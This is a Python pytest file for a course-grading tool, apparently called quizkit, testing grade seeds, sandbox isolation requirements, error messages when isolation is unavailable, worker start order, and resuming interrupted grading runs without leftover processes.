def drawn(jobs: list[Job]) -> list[bytes]:
    return [b"".join(arg.tobytes() for call in job.calls for arg in call) for job in jobs]


def test_grade_seed_changes_the_random_draws_and_the_same_seed_repeats_them(
    random_course: tuple[Course, Path], mock_sandbox: list[Job], tmp_path: Path
) -> None:
    course, directory = random_course
    for index, seed in enumerate([None, "7", "7", "8"]):
        extra = ("--restart",) + (("--seed", seed) if seed else ())
        result = course.grade(directory, tmp_path / f"out{index}" / "grades.csv", *extra)
        assert read_gradebook(tmp_path / f"out{index}" / "grades.csv")[1]["alice"][2] == "1", result.output
    lesson_seeds, seven, seven_again, eight = drawn(mock_sandbox)
    assert seven == seven_again
    assert len({lesson_seeds, seven, eight}) == 3


def test_the_course_grade_seed_file_is_used_without_seed(
    random_course: tuple[Course, Path], mock_sandbox: list[Job], tmp_path: Path
) -> None:
    course, directory = random_course
    course.grade(directory, tmp_path / "a" / "grades.csv")
    (course.root / "solutions" / "grade_seed").write_text("7\n", encoding="utf-8")
    result = course.grade(directory, tmp_path / "b" / "grades.csv")
    course.grade(directory, tmp_path / "c" / "grades.csv", "--seed", "7")
    lesson_seeds, from_file, from_option = drawn(mock_sandbox)
    assert from_file == from_option != lesson_seeds
    assert "drawn from the grade-time seed" in result.output and "7" not in result.output.split("seed")[-1][:3]


def test_a_new_grade_seed_regrades_everything(random_course: tuple[Course, Path], tmp_path: Path) -> None:
    course, directory = random_course
    out = tmp_path / "out" / "grades.csv"
    course.grade(directory, out, "--seed", "1")
    assert graded_count(course.grade(directory, out, "--seed", "1").output) == 0
    assert graded_count(course.grade(directory, out, "--seed", "2").output) == 1


def test_a_malformed_grade_seed_file_is_one_line(random_course: tuple[Course, Path], tmp_path: Path) -> None:
    course, directory = random_course
    (course.root / "solutions" / "grade_seed").write_text("seven", encoding="utf-8")
    result = course.grade(directory, tmp_path / "out" / "grades.csv")
    assert result.exit_code == 2 and "must hold one non-negative integer" in result.output


class RecordingRunner(MockRunner):
    """Stands in for SubprocessRunner: records the isolation it was asked for."""

    modes: ClassVar[list[str]] = []

    def __init__(self, *, isolation: str = "preferred", **_: object) -> None:
        super().__init__(fake_sandbox)
        RecordingRunner.modes.append(isolation)


def test_grade_requires_isolation_unless_told_no_isolation(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import quizkit.sandbox

    monkeypatch.setattr(quizkit.sandbox, "SubprocessRunner", RecordingRunner)
    RecordingRunner.modes = []
    course = make_course(tmp_path / "course")
    directory = honest_class(tmp_path / "class")
    course.grade(directory, tmp_path / "a" / "grades.csv")
    course.grade(directory, tmp_path / "b" / "grades.csv", "--no-isolation")
    assert RecordingRunner.modes == ["required", "off"]


def test_a_first_run_starts_its_workers_before_the_lesson_loads_and_a_rerun_of_an_unchanged_class_starts_none(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from quizkit.appstate import AppState

    events: list[str] = []

    class StartedRunner(MockRunner):
        def start(self, servers: int = 1) -> None:
            events.append(f"start {servers}")

    real_lesson = AppState.lesson

    def lesson(self: AppState, lesson_id: str) -> object:
        events.append("lesson")
        return real_lesson(self, lesson_id)

    monkeypatch.setattr(AppState, "lesson", lesson)
    monkeypatch.setattr(grade_module, "default_runner", lambda options: StartedRunner(fake_sandbox))
    course = make_course(tmp_path / "course")
    directory, out = honest_class(tmp_path / "class"), tmp_path / "out" / "grades.csv"
    assert course.grade(directory, out).exit_code == 0
    assert events == ["start 2", "lesson"]
    events.clear()
    again = course.grade(directory, out)
    assert again.exit_code == 0 and graded_count(again.output) == 0
    assert events == ["lesson"]


def test_grade_refuses_in_one_line_where_isolation_is_missing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import quizkit.sandbox
    from quizkit.sandbox import IsolationUnavailable

    def unavailable(**_: object) -> None:
        raise IsolationUnavailable("no user namespaces here;\n  run with --no-isolation to grade without them")

    monkeypatch.setattr(quizkit.sandbox, "SubprocessRunner", unavailable)
    course = make_course(tmp_path / "course")
    out = tmp_path / "out" / "grades.csv"
    result = course.grade(honest_class(tmp_path / "class"), out)
    assert result.exit_code == 2
    assert result.output == "quizkit: error: no user namespaces here; run with --no-isolation to grade without them\n"
    assert not out.exists()


def test_a_refusal_found_when_the_first_worker_starts_is_the_only_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import quizkit.sandbox
    from quizkit.sandbox import IsolationUnavailable

    class RefusingRunner:
        """Starts, then finds no isolation layer when its first worker comes up (as on a machine
        whose bubblewrap cannot make namespaces and whose kernel has no Landlock)."""

        def __init__(self, **_: object) -> None:
            pass

        def start(self, servers: int = 1) -> None:
            pass

        def run_many(self, jobs, workers=2):  # type: ignore[no-untyped-def]
            raise IsolationUnavailable("refusing to grade: learner code cannot be isolated on this machine")
            yield

        def close(self) -> None:
            pass

    monkeypatch.setattr(quizkit.sandbox, "SubprocessRunner", RefusingRunner)
    course = make_course(tmp_path / "course")
    result = course.grade(honest_class(tmp_path / "class"), tmp_path / "out" / "grades.csv")
    assert result.exit_code == 2
    assert result.output == "quizkit: error: refusing to grade: learner code cannot be isolated on this machine\n"


# --- through the real sandbox -------------------------------------------------------------------


@pytest.mark.slow
def test_hostile_files_are_graded_by_the_real_sandbox_as_the_mock_says(tmp_path: Path) -> None:
    graded = grade_a_class(tmp_path, 12)  # learner000..011; the hostile ones are added below
    directory = graded.directory
    for learner, (exercise, source) in HOSTILE.items():
        (directory / learner).mkdir()
        (directory / learner / f"{exercise}.py").write_text(source, encoding="utf-8")
    result = graded.course.grade(directory, graded.out)
    assert result.exit_code == 0, result.output
    _, rows = read_gradebook(graded.out)
    assert rows["learner000"][:3] == ["2", "1", "3"] and rows["learner006"][:3] == ["1", "0.5", "1.5"]
    for learner, (exercise, source) in HOSTILE.items():
        [result_doc] = feedback_of(graded.out, learner)["files"][exercise]["results"]
        marker = next(marker for marker in CANNED if marker in source.encode())
        assert result_doc["run_status"] == CANNED[marker][0].value
        assert rows[learner][2] == "0"


@contextmanager
def adopting_orphans() -> Iterator[set[int]]:
    """Make this process a child subreaper, so that processes a command leaves behind become our
    children; yields the set, filled on exit, of such processes (reaped again before returning)."""
    libc = ctypes.CDLL(None, use_errno=True)
    pr_set_child_subreaper = 36
    if libc.prctl(pr_set_child_subreaper, 1, 0, 0, 0) != 0:
        pytest.skip("PR_SET_CHILD_SUBREAPER is not available here")
    before = set(_children())
    left_behind: set[int] = set()
    try:
        yield left_behind
    finally:
        time.sleep(0.2)  # give orphans time to be reparented
        left_behind.update(set(_children()) - before)
        for pid in left_behind:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
        libc.prctl(pr_set_child_subreaper, 0, 0, 0, 0)


def _children() -> list[int]:
    me = os.getpid()
    found = []
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
        except OSError:
            continue  # the process ended while we looked
        if int(fields[1]) == me and fields[0] != "Z":
            found.append(int(stat.parent.name))
    return found


@pytest.mark.slow
@pytest.mark.skipif(sys.platform != "linux", reason="uses /proc and prctl")
def test_an_interrupted_run_resumes_where_it_stopped_and_leaves_no_process_behind(tmp_path: Path) -> None:
    course = make_course(tmp_path / "course")
    directory = tmp_path / "class"
    # Each file takes a few milliseconds, so that the run is still going, whatever the machine's
    # speed, when the first group of learners is recorded and the interrupt is sent.
    make_class(directory, 150, hostile=False, pause=0.005)
    out = tmp_path / "out" / "grades.csv"
    state = out.with_name("grades.csv.state.jsonl")
    command = [sys.executable, "-m", "quizkit", "--course", str(course.root), "grade", str(directory)]
    command += ["--lesson", "batch", "--out", str(out), "--jobs", "2"]
    with adopting_orphans() as left_behind:
        process = subprocess.Popen(
            command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, preexec_fn=default_sigint
        )
        deadline = time.monotonic() + 60
        while (
            not state.exists() or len(state.read_text(encoding="utf-8").splitlines()) <= 20
        ) and time.monotonic() < deadline:
            time.sleep(0.01)
        process.send_signal(signal.SIGINT)
        _, stderr = process.communicate(timeout=60)
    assert process.returncode == 130, stderr
    assert "run the same command to resume" in stderr
    assert left_behind == set()
    saved_learners = len(state.read_text(encoding="utf-8").splitlines()) - 1
    assert 20 <= saved_learners < 150

    resumed = course.grade(directory, out)
    total = len(list(directory.rglob("*.py")))
    assert graded_count(resumed.output) < total - 20
    assert re.search(rf"reused {total - graded_count(resumed.output)} unchanged", resumed.output)
    _, rows = read_gradebook(out)
    assert len(rows) == 150
    assert rows["learner000"] == ["2", "1", "3", "3", ""] and rows["learner146"] == ["1", "0.5", "1.5", "3", ""]
